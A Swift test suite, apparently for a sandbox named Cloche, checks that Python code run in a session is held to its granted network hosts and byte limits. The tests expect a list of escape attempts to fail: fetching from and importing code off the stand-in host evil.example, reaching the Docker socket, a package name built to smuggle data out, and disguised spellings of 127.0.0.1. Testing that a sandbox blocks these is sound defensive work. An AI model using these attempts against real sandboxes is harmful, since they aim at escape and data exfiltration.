import Foundation
import Testing

@testable import Cloche

@Suite(
    "The network of a session with the real runner",
    .serialized,
    .timeLimit(.minutes(5)),
    .enabled(if: RecordingLauncher.hasRuntime, "no runtime is installed")
)
struct NetTests {
    private let server = LoopbackServer()

    private func withSession(
        _ net: [String],
        _ limits: Limits = Limits(),
        _ body: (Session) async throws -> Void
    ) async throws {
        var permissions = PermissionSet()
        try permissions.allow(.net, net)
        let session = Session(permissions, limits, SessionOptions(), RecordingLauncher(), SessionTiming())
        try await withOpen(session, body)
    }

    @Test("what is used and what goes over the network is told, and a limit ends it until it is raised")
    func limit() async throws {
        let url = "http://127.0.0.1:\(server.port)/"
        try await withSession(["127.0.0.1:\(server.port)"], Limits(netBytes: 3_000_000)) { session in
            let get = "import urllib.request\nurllib.request.urlopen('\(url)').read()"
            let first = try await session.execute(get)
            #expect(first.value == "b'ok'")
            #expect(first.used == [Permission(kind: .net, item: "127.0.0.1:\(server.port)")])
            #expect((50...500).contains(first.sentBytes) && (50...500).contains(first.receivedBytes))
            let flood = try await session.execute(
                "import js\nfor count in range(10**6): await js.fetch('\(url)', method='POST', body='x' * 10**6)"
            )
            #expect(flood.error?.name == "OSError")
            #expect(flood.error?.message.contains("--max-net-bytes") == true)
            #expect((2_000_000...3_000_000).contains(flood.sentBytes))
            #expect(try await session.execute("count").value == "2")
            let total = await session.traffic.total
            #expect((2_000_000...3_000_000).contains(total))
            #expect(
                try await session.execute(
                    "import socket\nwith socket.create_connection(('127.0.0.1', \(server.port))) as s: s.sendall(bytes(10**6))"
                ).error?.name == "OSError"
            )
            try await session.setLimits(Limits(netBytes: 4_000_000))
            #expect(try await session.execute(get).value == "b'ok'")
            let unlimited = await session.traffic.total
            try await session.setPermissions(PermissionSet())
            #expect(await session.traffic.total == unlimited)
        }
    }

    @Test("a peer that says nothing is left at the time limit, and the state stays")
    func silence() async throws {
        let silent = LoopbackServer(isSilent: true)
        try await withSession(["127.0.0.1:\(silent.port)"]) { session in
            _ = try await session.execute("import asyncio, socket, ssl, urllib.request; kept = 7")
            let connect = "socket.create_connection(('127.0.0.1', \(silent.port)))"
            for source in [
                "s = \(connect); s.recv(10)",
                "ssl.create_default_context().wrap_socket(\(connect), server_hostname='localhost')",
                "await asyncio.open_connection('127.0.0.1', \(silent.port), ssl=True)",
                "from pyodide.http import pyfetch; await pyfetch('http://127.0.0.1:\(silent.port)/')",
                "urllib.request.urlopen('http://127.0.0.1:\(silent.port)/')",
            ] {
                let result = try await session.execute(source, timeout: .seconds(1))
                #expect(result.status == .timedOut, "\(source)")
                #expect(result.recovery == nil, "\(source)")
                #expect(try await session.execute("kept").value == "7", "\(source)")
            }
        }
    }

    @Test("whatever is tried, only what is granted is reached, and the session lives")
    func attempts() async throws {
        let port = server.port
        try await withSession(["example.com"]) { session in
            _ = try await session.execute("import js; from pyodide.code import run_js; kept = 7")
            let elsewhere = try await session.execute("r = await js.fetch('https://evil.example/')")
            #expect(elsewhere.error?.name == "PermissionError")
            #expect(elsewhere.blocked == [Permission(kind: .net, item: "evil.example:443")])
            let spellings = """
                for u in ('2130706433', '0x7f000001', '0177.0.0.1', '[::ffff:127.0.0.1]', 'localhost', '127.1'):
                    try: print(u, (await js.fetch(f'http://{u}:\(port)/')).status)
                    except PermissionError as e: print('denied')
                """
            #expect(try await session.execute(spellings).stdout == String(repeating: "denied\n", count: 6))
            for source in [
                "run_js(\"(n)=>n.connect('/var/run/docker.sock')\")(await run_js(\"import('node:net')\"))",
                "run_js('Deno.listen({port:0}).addr.port')",
                "import socket; socket.socket().bind(('127.0.0.1', 0))",
                "await run_js(\"import('https://evil.example/x.js')\")",
                "await run_js(\"import('npm:secret-data-in-name@1.0.0')\")",
            ] {
                #expect(try await session.execute(source).status == .error, "\(source)")
                #expect(try await session.execute("kept").value == "7", "\(source)")
            }
        }
    }

    @Test("all of net leaves this machine out, by address and by name, and names the address")
    func publicOnly() async throws {
        let port = server.port
        try await withSession([]) { session in
            _ = try await session.execute("import socket")
            for (host, address) in [("127.0.0.1", "127.0.0.1"), ("localhost", "127.0.0.1"), ("10.0.0.5", "10.0.0.5")] {
                let result = try await session.execute("socket.create_connection(('\(host)', \(port)))")
                let item = "\(address):\(port)"
                let hint = "net access to '\(item)' is not granted; to grant it: :allow net \(item)"
                #expect(result.error?.name == "PermissionError")
                #expect(result.error?.message == hint || result.error?.message.contains("[::1]") == true)
            }
        }
    }
}
